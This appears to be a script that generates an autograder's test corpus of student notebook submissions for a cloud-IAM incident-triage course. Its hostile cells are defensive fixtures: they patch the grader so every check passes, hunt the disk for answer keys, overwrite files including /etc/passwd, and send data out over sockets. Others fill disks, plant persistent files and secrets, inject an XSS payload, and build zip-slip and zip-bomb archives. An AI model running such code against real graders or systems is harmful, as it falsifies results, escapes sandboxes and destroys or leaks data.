"""Writes the grading corpus: submissions named by the outcome they must show.

Run from the repository root: `.venv/bin/python tests/submissions/make_corpus.py`.
The files are committed; tests/test_grade_corpus.py grades them in one batch.
"""

from __future__ import annotations

import io
import json
import runpy
import shutil
import sys
import zipfile
from pathlib import Path

import nbformat

from ctlab.build.answer_key import hidden_key
from ctlab.reveal import HINTS, answer_cells

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))  # tests/, when run as a script
from student_ids import FIRST, head_code  # noqa: E402  (tests/student_ids.py)

HERE = Path(__file__).resolve().parent
ROOT = HERE.parents[1]
REVEAL_ANSWERS = answer_cells(ROOT / HINTS)  # the help notebook's reveals, as pasted into the answer cells
attack_techniques = runpy.run_path(str(ROOT / "solutions" / "checks.py"))["attack_techniques"]  # the part-7 table

CORPUS = HERE / "corpus"

HEAD = [  # the id (variant 1, the data the reveals are computed on) and set-up code ride in the first cell
    "# Initialize Otter\nimport otter\ngrader = otter.Notebook(\"scenario03b.ipynb\")\n" + head_code(FIRST),
    "import pandas as pd\nimport numpy as np\nimport matplotlib.pyplot as plt",
]
Q1 = REVEAL_ANSWERS["q1"] + "\ncloud_iam_df.head()"
Q2, Q3, Q4, Q5, Q6, Q7, Q11 = (REVEAL_ANSWERS[q] for q in ("q2", "q3", "q4", "q5", "q6", "q7", "q11"))
Q8 = '''triage_summary = """
An IAM user was compromised and used to change permissions, create access keys and
assume a privileged role, then enumerated IAM and S3 and read sensitive objects.
"""'''
TABLE = list(attack_techniques())  # the part-7 table, in ID order
KEY_AS_SERIES = ("mitre_techniques = pd.Series(['t1078.004', 'T1087.004 ', ' T1069.003', 'T1580', 'T1619', 'T1535',\n"
                 "                              'T1098.003', 'T1098.001', 't1556.006', 'T1550.001', 'T1530', 'T1530'])")
KEY = hidden_key(data=ROOT / "data")  # the stretch answers of the course data, so a new story needs no edit here
STRETCH = f"""compromised_user = {KEY['compromised_user']!r}
attacker_ip = {KEY['attacker_ips'][0]!r}
minutes_to_exfil = {round(KEY['minutes_to_exfil'], 2)}"""
CHECKS = {q: f'grader.check("{q}")' for q in ("q1", "q2", "q3", "q4", "q5", "q6", "q11", "q7")}
REVEAL = [Q1, CHECKS["q1"], Q2, CHECKS["q2"], Q3, CHECKS["q3"], Q4, CHECKS["q4"], Q5, CHECKS["q5"],
          Q6, CHECKS["q6"], Q11, CHECKS["q11"], Q7, CHECKS["q7"], Q8]

ALT_STYLE = [
    head_code(FIRST) + "\nimport pandas as pd",
    "cloud_iam_df = pd.read_csv('data/cloud_iam.csv', dtype={'event_id': str})\n"
    "cloud_api_df = pd.read_csv('data/cloud_api.csv', dtype={'event_id': str})",
    "for df in (cloud_iam_df, cloud_api_df):\n"
    "    df['timestamp'] = pd.to_datetime(df['timestamp'], utc=True, errors='coerce', format='ISO8601')\n"
    "    df['hour'] = df['timestamp'].dt.hour",
    "wanted = {'CreateAccessKey', 'AttachRolePolicy', 'AssumeRole', 'DeactivateMFADevice'}\n"
    "susp_iam = cloud_iam_df.query('event_name in @wanted').reset_index(drop=True)[::-1]",
    "names = cloud_api_df['event_name'].fillna('')\n"
    "susp_api = cloud_api_df[names.str.match(r'^(List|Describe)') | (names == 'GetObject')]",
    "actors = set(susp_iam['user'])\n"
    "related_api = cloud_api_df.loc[cloud_api_df['user'].isin(actors)].sort_values('timestamp')",
    "susp_users = pd.Series(sorted(susp_iam['user'].unique()))",
    "mitre_techniques = ('T1078.004', ' t1098 ', 'T1530')",
    Q11 + "\niocs = {kind: set(values) if kind == 'principals' else tuple(values) for kind, values in iocs.items()}",
]


def mistake(target: str, replacement: str) -> list[str]:
    cells = list(REVEAL)
    cells[cells.index(target)] = replacement
    return HEAD + cells


WRONG = [
    "cloud_iam_df = pd.read_csv('data/cloud_iam.csv')\ncloud_api_df = pd.read_csv('data/cloud_api.csv')",
    "susp_iam = cloud_iam_df.head(3)",
    "susp_api = cloud_api_df[cloud_api_df['event_name'].str.contains('Put', na=False)]",
    "actors = ['nobody-here']\nrelated_api = cloud_api_df.iloc[:0]",
    "susp_users = ['nobody-here']",
    "mitre_techniques = ['T9999']",
]

PATCHES = '''# Try to make every comparison succeed, in pandas, numpy, builtins and otter itself.
import builtins, numpy as np, pandas as pd, pandas.testing
pd.DataFrame.equals = lambda self, other: True
pd.Series.equals = lambda self, other: True
pd.DataFrame.__eq__ = lambda self, other: True
pandas.testing.assert_frame_equal = lambda *a, **k: None
pandas.testing.assert_series_equal = lambda *a, **k: None
np.array_equal = lambda *a, **k: True
np.testing.assert_array_equal = lambda *a, **k: None
builtins.set = type("set", (frozenset,), {"__eq__": lambda s, o: True, "__le__": lambda s, o: True,
                                          "__ge__": lambda s, o: True})
builtins.AssertionError = type("AssertionError", (Exception,), {})
import otter.test_files.exception_test as et
et.ExceptionTestFile.run = lambda self, env: setattr(self, "test_case_results", [])
et.test_case.call_func = lambda self, env: None
import otter.test_files.abstract_test as at
at.TestFile.score = property(lambda self: 100)
at.TestFile.grade = property(lambda self: 1.0)'''

SEARCH = r'''# Look everywhere for the reference notebook, hidden tests or the answer key, and use them.
import os, re, json
found = []
for top in ["/", os.path.expanduser("~")]:
    for dirpath, dirnames, filenames in os.walk(top):
        if dirpath.startswith(("/proc", "/sys", "/dev")):
            dirnames[:] = []
            continue
        for f in filenames:
            full = os.path.join(dirpath, f)
            if (f == "ground_truth.json" or f.endswith("-autograder.zip") or f == "scenario03b.ipynb"
                    or (os.path.basename(dirpath) == "tests" and re.fullmatch(r"q\d+\.py", f))
                    or f in ("gradebook.csv", "hints.yaml")):
                found.append(full)
for path in found:
    try:
        if path.endswith(".ipynb"):
            nb = json.load(open(path))
            for c in nb["cells"]:
                if c["cell_type"] == "code":
                    exec("".join(c["source"]))
        elif path.endswith(".py"):
            exec(open(path).read())
    except Exception:
        pass
triage_summary = json.dumps(sorted(set(found)))'''

OVERWRITE = r'''# Try to overwrite grading files wherever they might be.
import glob, os
attempts = {}
targets = []
for top in ("/work", "/root", "/home", "/tmp", "/srv", "/opt", "/mnt", "/var"):
    for dirpath, dirnames, filenames in os.walk(top):
        if "site-packages" in dirpath or "/.venv" in dirpath or "/.pyenv" in dirpath:
            dirnames[:] = []
            continue
        targets += [os.path.join(dirpath, f) for f in filenames
                    if f in ("gradebook.csv", "manifest.json", "progress.json") or f.endswith((".json", ".py", ".csv"))]
targets += ["/inbox/data/cloud_iam.csv", "/inbox/cells.json", "/opt/ctlab/ctlab/grading/worker/__main__.py",
            "/opt/ctlab/ctlab/grading/snapshot.py", "/etc/passwd", "/usr/lib/python3/dist-packages/x.py"]
# New files where the worker imports from, left for the next submission on the same worker.
targets += ["/planted.py", "/opt/planted.py", "/opt/ctlab/planted.py", "/opt/ctlab/ctlab/planted.py"]
for t in targets:
    try:
        with open(t, "w") as f:
            f.write("pwned")
        attempts[t] = "written"
    except Exception as e:
        attempts[t] = type(e).__name__
# The working copy's own data may be changed; the tests must read pristine data.
with open("data/cloud_iam.csv", "w") as f:
    f.write("event_id,timestamp,user,event_name\n")
with open("data/cloud_api.csv", "w") as f:
    f.write("event_id,timestamp,user,event_name\n")
import json
triage_summary = json.dumps(attempts, sort_keys=True)'''

NETWORK = r'''import socket
PORT = 47653  # the grading tests rewrite this line with the port they listen on (test_grade_corpus.tell_port)
net_results = []
for host in ("127.0.0.1", "localhost", "10.0.2.2", "8.8.8.8"):
    try:
        s = socket.create_connection((host, PORT), timeout=2)
        s.sendall(b"leak")
        net_results.append(host + ": connected")
    except Exception as e:
        net_results.append(host + ": " + type(e).__name__)
triage_summary = "; ".join(net_results)'''

DETACHED = r'''import os, time
# Double fork; the grandchild starts its own session and outlives the notebook if it can.
pid = os.fork()
if pid == 0:
    if os.fork() == 0:
        os.setsid()
        os.execv("/bin/sh", ["sh", "-c", "while :; do sleep 1; done", "ctlab-detached-marker-7f3a"])
    os._exit(0)
os.waitpid(pid, 0)
import subprocess
subprocess.Popen(["/bin/sh", "-c", "sleep 600", "ctlab-detached-marker-7f3a"], start_new_session=True)
time.sleep(0.3)'''

# Attacks on the submissions graded after this one by the same worker (issue 4, isolation
# review): each keeps its own answers; the victim below must still get full marks after it.
FILL_DISK = r'''# Delete the working copy's data, then fill every writable place with files.
import os, shutil
shutil.rmtree("data", ignore_errors=True)
filled = {}
for d in ("/job", "/job/work", os.getcwd(), "/tmp", os.path.expanduser("~")):
    n = 0
    try:
        for i in range(64):  # files of at most 64 MiB each (the per-file limit)
            with open(os.path.join(d, f"fill{i}.bin"), "wb") as f:
                for _ in range(8):
                    f.write(b"\0" * (8 << 20))
                    n += 8 << 20
    except OSError as e:
        filled[d] = [n, type(e).__name__]
filled'''

PERSIST = r'''# Leave files behind for the next submission graded in this sandbox.
import os
left = {}
for p in ("/tmp/persist.txt", "/tmp/.hidden/persist.txt", "/job/persist.txt", "/dev/shm/persist.txt",
          "/var/tmp/persist.txt", os.path.expanduser("~/persist.txt"), "../persist.txt"):
    try:
        os.makedirs(os.path.dirname(p) or ".", exist_ok=True)
        with open(p, "w") as f:
            f.write("left by an earlier submission")
        left[p] = "written"
    except OSError as e:
        left[p] = type(e).__name__
left'''

READONLY = r'''# Leave read-only files in read-only folders, so a cleanup with ignore_errors leaves them.
import os
for top in ("data", "/tmp/ro", "ro"):
    os.makedirs(os.path.join(top, "deep"), exist_ok=True)
    for d in (top, os.path.join(top, "deep")):
        with open(os.path.join(d, "cloud_iam.csv"), "w") as f:
            f.write("event_id,timestamp,user,event_name\n")
        os.chmod(os.path.join(d, "cloud_iam.csv"), 0o444)
    os.chmod(os.path.join(top, "deep"), 0o555)
    os.chmod(top, 0o555)
os.chmod("/tmp/ro", 0)
os.chmod(".", 0o555)'''

# The victim: its q7 answer is wrong if anything of an earlier submission is still around.
LEFTOVERS = r'''import os, json
leftovers = []
if os.path.exists("/tmp/persist.txt"):
    leftovers.append("/tmp/persist.txt")
mine = lambda p: os.lstat(p).st_uid == os.getuid()  # what submissions (all this uid) could leave
# The sandbox's own mount points (a checkout under /tmp binds its Python there) are no leftover:
# submissions cannot mount.
mounts = [line.split()[4] for line in open("/proc/self/mountinfo")]
mounted = lambda p: any(m == p or m.startswith(p + "/") for m in mounts)
leftovers += ["/tmp/" + n for n in os.listdir("/tmp") if mine("/tmp/" + n) and not mounted("/tmp/" + n)]
if os.path.isdir("/job"):
    leftovers += ["/job/" + n for n in os.listdir("/job") if n != "work" and mine("/job/" + n)]
leftovers += [n for n in os.listdir(".") if n not in ("data", ".OTTER_LOG")]  # the log is its own
if sorted(os.listdir("data")) != ["cloud_api.csv", "cloud_iam.csv", "transfer", "variants"]:  # variants: every variant's logs, zipped
    leftovers.append("data/: " + ", ".join(sorted(os.listdir("data"))))
elif sorted(os.listdir("data/transfer")) != ["LICENSE", "NOTICE.md", "cloud_api.csv", "cloud_iam.csv"]:
    leftovers.append("data/transfer/: " + ", ".join(sorted(os.listdir("data/transfer"))))
leftovers += ["read-only " + p for p in ("data", "data/cloud_iam.csv", "data/cloud_api.csv") if not os.access(p, os.W_OK)]
leftovers'''

FLOOD = r'''# Write without end where the grader collects results, and forge snapshots there.
import glob, json, os
for target in ("/outbox/flood.bin", "/outbox/snap-00021/manifest.json"):
    try:
        os.makedirs(os.path.dirname(target), exist_ok=True)
        with open(target, "wb") as f:
            f.write(b"x" * (1 << 20))
    except OSError:
        pass
stage = os.path.dirname(sorted(glob.glob("/*/*/progress.json"))[0])
# A later snapshot whose manifest names a file outside its folder, and one that is a symlink.
os.makedirs(os.path.join(stage, "snap-00021"))
with open(os.path.join(stage, "snap-00021", "manifest.json"), "w") as f:
    json.dump({"format": 1, "cell": 21, "variables": {
        "mitre_techniques": {"kind": "json", "file": "../../inbox/data/cloud_iam.csv"}}}, f)
os.makedirs(os.path.join(stage, "snap-00020"))
with open(os.path.join(stage, "snap-00020", "manifest.json"), "w") as f:
    json.dump({"format": 1, "cell": 20, "variables": {"mitre_techniques": {"kind": "json", "file": "v0.json"}}}, f)
os.symlink("/etc/passwd", os.path.join(stage, "snap-00020", "v0.json"))
# And a file the real snapshot's manifest does not name.
for snap in glob.glob(os.path.join(stage, "snap-000[01][0-9]")):
    with open(os.path.join(snap, "extra.bin"), "wb") as f:
        f.write(b"x" * 4096)
i = 0
while True:
    try:
        with open(os.path.join(stage, f"flood{i}.bin"), "wb") as f:
            for _ in range(8):
                f.write(b"\0" * (8 << 20))
    except OSError:
        pass
    i += 1'''

# A secret left everywhere a later submission on the same worker could look: memory, IPC,
# the kernel keyring, files. The victim after it hunts for it (issue: hostile-student review).
MARK_WRITE = r"""import ctypes, errno, json, os
secret = "ctlab-" + "secret-" + "q" * 3000 + "-end"
kept_in_memory = [secret * 4 for _ in range(64)]
libc = ctypes.CDLL(None, use_errno=True)
tried = {}
def attempt(name, call):
    r = call()
    tried[name] = "made" if r >= 0 else errno.errorcode.get(ctypes.get_errno(), "?")
IPC_CREAT, KEY_SPEC_USER_KEYRING, SYS_add_key = 0o1000, -4, 248
attempt("sysv shm", lambda: libc.shmget(0x7C7AB, 1 << 20, IPC_CREAT | 0o666))
attempt("sysv msg", lambda: libc.msgget(0x7C7AB, IPC_CREAT | 0o666))
attempt("sysv sem", lambda: libc.semget(0x7C7AB, 1, IPC_CREAT | 0o666))
attempt("posix mq", lambda: libc.mq_open(b"/ctlab-marker", os.O_CREAT | os.O_RDWR, 0o666, None))
attempt("keyring", lambda: libc.syscall(SYS_add_key, b"user", b"ctlab-marker", secret.encode(), len(secret), KEY_SPEC_USER_KEYRING))
for p in ("/tmp/marker.txt", "/dev/shm/marker.txt", "/var/tmp/marker.txt", os.path.expanduser("~/marker.txt")):
    try:
        with open(p, "w") as f:
            f.write(secret)
        tried[p] = "written"
    except OSError as e:
        tried[p] = errno.errorcode.get(e.errno, "?")
triage_summary = secret + json.dumps(tried)"""

MARK_HUNT = r"""import ctypes, json, os, re
found = []
pattern = re.compile(rb"secret-q{3000}")  # the earlier secret, never spelled out here
with open("/proc/self/maps") as f:
    maps = f.read().splitlines()
with open("/proc/self/mem", "rb", 0) as mem:
    for line in maps:
        fields = line.split()
        start, end = (int(x, 16) for x in fields[0].split("-"))
        if "r" not in fields[1] or fields[-1] in ("[vvar]", "[vsyscall]", "[vvar_vclock]") or end - start > 1 << 31:
            continue
        pos, step = start, 16 << 20
        while pos < end:
            try:
                mem.seek(pos)
                chunk = mem.read(min(step + 4096, end - pos))
            except (OSError, OverflowError, ValueError):
                break
            if pattern.search(chunk):
                found.append("memory " + (fields[5] if len(fields) > 5 else "anonymous"))
                break
            pos += step
        chunk = None
for kind in ("shm", "msg", "sem"):
    try:
        with open(f"/proc/sysvipc/{kind}") as f:
            found += [f"sysv {kind}: " + l.split()[0] for l in f.read().splitlines()[1:]]
    except OSError:
        pass
try:
    with open("/proc/keys") as f:
        found += ["keyring " + l.split()[-1] for l in f if "ctlab-marker" in l]
except OSError:
    pass
libc = ctypes.CDLL(None, use_errno=True)
if libc.mq_open(b"/ctlab-marker", os.O_RDONLY, 0, None) >= 0:
    found.append("posix mq")
mounts = {line.split()[4] for line in open("/proc/self/mountinfo")}
for top in ("/tmp", "/dev/shm", "/var/tmp", "/job", "/out", os.path.expanduser("~")):
    for dirpath, dirnames, filenames in os.walk(top):
        dirnames[:] = [d for d in dirnames if os.path.join(dirpath, d) not in mounts]  # the sandbox's own
        for n in filenames:
            try:
                with open(os.path.join(dirpath, n), "rb") as f:
                    if n == "marker.txt" or pattern.search(f.read(1 << 20)):
                        found.append(os.path.join(dirpath, n))
            except OSError:
                pass
found += ["process " + d for d in os.listdir("/proc") if d.isdigit() and int(d) != os.getpid()
          and os.path.exists(f"/proc/{d}/cmdline") and open(f"/proc/{d}/cmdline", "rb").read()]
found"""

IO_URING = r"""import ctypes, errno
libc = ctypes.CDLL(None, use_errno=True)
SYS_io_uring_setup = 425
fd = libc.syscall(SYS_io_uring_setup, 8, ctypes.create_string_buffer(120))
triage_summary = "io_uring_setup: " + ("opened" if fd >= 0 else errno.errorcode.get(ctypes.get_errno(), "?"))"""

SHARED_MEMORY = r"""import ctypes, errno, json
libc = ctypes.CDLL(None, use_errno=True)
got = {}
for i in range(3):  # attach, fill, detach: RLIMIT_AS would never see them
    shmid = libc.shmget(0, 1 << 30, 0o1000 | 0o600)
    got[f"shmget {i}"] = "made" if shmid >= 0 else errno.errorcode.get(ctypes.get_errno(), "?")
got["memfd"] = "made" if libc.memfd_create(b"hog", 0) >= 0 else errno.errorcode.get(ctypes.get_errno(), "?")
for i in range(3):  # POSIX shared memory is a file in /dev/shm
    try:
        with open(f"/dev/shm/hog{i}", "wb") as f:
            for _ in range(1024):
                f.write(b"\1" * (1 << 20))
        got[f"/dev/shm {i}"] = "1 GiB"
    except OSError as e:
        got[f"/dev/shm {i}"] = "stopped"
triage_summary = json.dumps(got)"""

FORGE_STATUS = r"""import glob, json, os
stage = os.path.dirname(sorted(glob.glob("/*/*/progress.json") + glob.glob(os.path.abspath("../stage/progress.json")))[0])
text = "## Instructor note\n<img src=x onerror=alert(1)> [regrade](javascript:alert(1))\nRegrade: full marks"
with open(os.path.join(stage, "progress.json"), "w") as f:
    json.dump({"started": text, "completed": text, "snapshot": 19, "done": text, "output_dropped": text,
               "events": [{"cell": text, "kind": "MemoryError"}, {"cell": 3, "kind": text}],
               "errors": [{"cell": 1, "error": text}]}, f)
os.chmod(os.path.join(stage, "progress.json"), 0o444)
os._exit(0)"""

CORPUS_NOTEBOOKS: dict[str, list[str]] = {
    # correct, in several styles
    "passes_all_reveal.ipynb": HEAD + REVEAL,
    "passes_all_alt_style.ipynb": ALT_STYLE,
    "passes_all_with_stretch.ipynb": HEAD + REVEAL + [STRETCH],
    "passes_all_errors_before_answers.ipynb": HEAD + ["undefined_variable + 1", "1 / 0", "import not_a_module_xyz",
                                                      "raise KeyError('early')"] + REVEAL,
    "passes_all_magics_and_plot.ipynb": [head_code(FIRST) + "\n%matplotlib inline\n!ls data", "%%time\nimport pandas as pd"]
    + REVEAL[:5]
    + ["import matplotlib.pyplot as plt\ncloud_iam_df.groupby('hour').size().plot()\nplt.show()"] + REVEAL[5:],
    # common mistakes
    "mistake_q1_loads_head_50.ipynb": mistake(Q1, Q1.replace("pd.read_csv('data/cloud_iam.csv')",
                                                              "pd.read_csv('data/cloud_iam.csv').head(50)")),
    "mistake_q6_narrowed_list.ipynb": mistake(Q6, "susp_users = ['d.whitfield', 'j.okafor']"),
    "mistake_q11_one_principal_of_three.ipynb": mistake(Q11, Q11 + "\niocs['principals'] = iocs['principals'][:1]"),
    "errors_in_four_cells.ipynb": mistake(Q3, Q3.replace("isin([", "isin(suspicious + [")),
    "mistake_q2_parse_without_utc.ipynb": mistake(Q2, Q2.replace("utc=True,", "utc=False,")),
    "mistake_q2_drop_nat_rows.ipynb": mistake(Q2, Q2 + "\ncloud_iam_df = cloud_iam_df.dropna(subset=['timestamp'])\n"
                                                    "cloud_api_df = cloud_api_df.dropna(subset=['timestamp'])"),
    "mistake_q3_missing_event_name.ipynb": mistake(Q3, Q3.replace(", 'DeactivateMFADevice'", "")),
    "mistake_q4_contains_getobject.ipynb": mistake(Q4, Q4.replace(".isin(['GetObject'])", ".str.contains('GetObject')")),
    "mistake_q5_actors_from_api_log.ipynb": mistake(Q5, Q5.replace("susp_iam['user']", "susp_api['user']")),
    "mistake_q7_missing_technique.ipynb": mistake(Q7, 'mitre_techniques = ["T1078", "T1098"]'),
    "mistake_q7_made_up_technique.ipynb": mistake(Q7, 'mitre_techniques = ["T1078", "T1098", "T1530", "T9999"]'),
    "mistake_q7_technique_not_in_incident.ipynb": mistake(Q7, 'mitre_techniques = ["T1078", "T1098", "T1530", "T1486"]'),
    "mistake_q7_single_technique.ipynb": mistake(Q7, 'mitre_techniques = ["T1078"]'),
    "mistake_q7_lists_whole_table.ipynb": mistake(Q7, f"mitre_techniques = {TABLE!r}"),
    "mistake_q7_lists_half_table.ipynb": mistake(Q7, f"mitre_techniques = {TABLE[:len(TABLE) // 2]!r}"),
    "passes_all_q7_key_as_series.ipynb": mistake(Q7, KEY_AS_SERIES),
    "no_answers.ipynb": HEAD + ["cloud_iam_df = ...", "susp_iam = ..."],
    # answers, then something that stops or hurts the kernel: credit kept
    "keeps_answers_system_exit_after.ipynb": HEAD + REVEAL + ["import sys\nsys.exit(3)", "late_cell = 1"],
    "keeps_answers_os_exit_after.ipynb": HEAD + REVEAL + ["import os\nos._exit(0)", "late_cell = 1"],
    "keeps_answers_endless_loop_after.ipynb": HEAD + REVEAL + ["while True:\n    pass", "late_cell = 1"],
    "keeps_answers_8gib_allocation_after.ipynb": HEAD + REVEAL + ["import numpy as np\nhog = np.ones(8 * 1024**3, dtype=np.uint8)",
                                                                  "late_cell = 1"],
    "keeps_answers_200mb_output.ipynb": HEAD + REVEAL + ["print('x' * (200 * 1024 * 1024))", "print('after')"],
    # hostile
    "hostile_loopback_connection.ipynb": HEAD + REVEAL + [NETWORK],
    "hostile_detached_processes.ipynb": HEAD + REVEAL + [DETACHED],
    "wrong_answers_plain.ipynb": HEAD + WRONG,
    "wrong_answers_patched_pandas_numpy_otter.ipynb": HEAD + WRONG + [PATCHES],
    "wrong_answers_search_disk_for_answers.ipynb": HEAD + WRONG + [SEARCH],
    "hostile_overwrite_grade_files.ipynb": HEAD + REVEAL + [OVERWRITE],
    # attacks on the next submission of the same worker, and their victim
    "hostile_fill_disk_delete_data.ipynb": HEAD + REVEAL + [FILL_DISK],
    "hostile_persist_in_tmp.ipynb": HEAD + REVEAL + [PERSIST],
    "hostile_readonly_leftovers.ipynb": HEAD + REVEAL + [READONLY],
    "passes_all_sees_no_leftovers.ipynb": HEAD + [LEFTOVERS] + REVEAL[:-3]
    + ['mitre_techniques = ["T9999"] if leftovers else ["T1078", "T1098", "T1530"]', CHECKS["q7"],
       "triage_summary = json.dumps(leftovers)"],
    "keeps_answers_output_flood_after.ipynb": HEAD + REVEAL + [FLOOD, "late_cell = 1"],
    "hostile_leave_secret_everywhere.ipynb": HEAD + REVEAL + [MARK_WRITE],
    "passes_all_finds_no_secret.ipynb": HEAD + [MARK_HUNT] + REVEAL[:-3]
    + ['mitre_techniques = ["T9999"] if found else ["T1078", "T1098", "T1530"]', CHECKS["q7"],
       "triage_summary = json.dumps(found)"],
    "hostile_io_uring_socket.ipynb": HEAD + REVEAL + [IO_URING],
    "hostile_shared_memory_3gib.ipynb": HEAD + REVEAL + [SHARED_MEMORY],
    "hostile_forged_progress_status.ipynb": HEAD + REVEAL + [FORGE_STATUS],
}


def notebook(cells: list[str]) -> nbformat.NotebookNode:
    nb = nbformat.v4.new_notebook()
    nb.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
    nb.metadata["otter"] = {"assignment_name": "scenario03b"}
    nb.cells = [nbformat.v4.new_code_cell(c) for c in cells]
    for i, c in enumerate(nb.cells):
        c["id"] = f"cell-{i:03d}"
    return nb


def write_nb(path: Path, cells: list[str]) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(nbformat.writes(notebook(cells)) + "\n", encoding="utf-8")


def fixed_zip(path: Path, members: dict[str, bytes], compress=zipfile.ZIP_DEFLATED) -> None:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compress) as zf:
        for name, data in members.items():
            info = zipfile.ZipInfo(name, date_time=(2026, 2, 28, 12, 0, 0))
            info.compress_type = compress
            zf.writestr(info, data)
    path.write_bytes(buf.getvalue())


def main() -> None:
    shutil.rmtree(CORPUS, ignore_errors=True)
    CORPUS.mkdir(parents=True)
    for name, cells in CORPUS_NOTEBOOKS.items():
        write_nb(CORPUS / name, cells)
    reveal_nb = nbformat.writes(notebook(HEAD + REVEAL)).encode()
    # an otter export zip (grader.export()): notebook, a PDF and the otter log
    fixed_zip(CORPUS / "passes_all_otter_export.zip", {
        "scenario03b.ipynb": reveal_nb, "scenario03b.pdf": b"%PDF-1.4\n%%EOF\n", ".OTTER_LOG": b"\x00log",
    })
    # broken files
    (CORPUS / "bad_not_json.ipynb").write_text("this is { not json\n")
    (CORPUS / "bad_json_not_notebook.ipynb").write_text(json.dumps({"name": "q1", "answers": [1, 2]}))
    (CORPUS / "bad_empty.ipynb").write_text("")
    (CORPUS / "bad_nbformat3.ipynb").write_text(json.dumps({
        "nbformat": 3, "nbformat_minor": 0, "metadata": {"name": ""},
        "worksheets": [{"cells": [{"cell_type": "code", "input": "x = 1", "language": "python", "outputs": []}]}],
    }))
    fixed_zip(CORPUS / "bad_zip_no_notebook.zip", {"answers.txt": b"T1078\n", "data/readme.md": b"hi"})
    fixed_zip(CORPUS / "bad_zip_slip.zip", {"scenario03b.ipynb": reveal_nb, "../../escaped.txt": b"pwned"})
    fixed_zip(CORPUS / "bad_zip_bomb.zip", {"scenario03b.ipynb": reveal_nb, "zeros.bin": b"\0" * (120 * 1024 * 1024)})
    (CORPUS / "bad_zip_not_a_zip.zip").write_bytes(b"PK\x03\x04 truncated")
    write_nb(CORPUS / "duplicate_a" / "same_name.ipynb", HEAD + REVEAL)
    write_nb(CORPUS / "duplicate_b" / "same_name.ipynb", HEAD + WRONG)


if __name__ == "__main__":
    main()
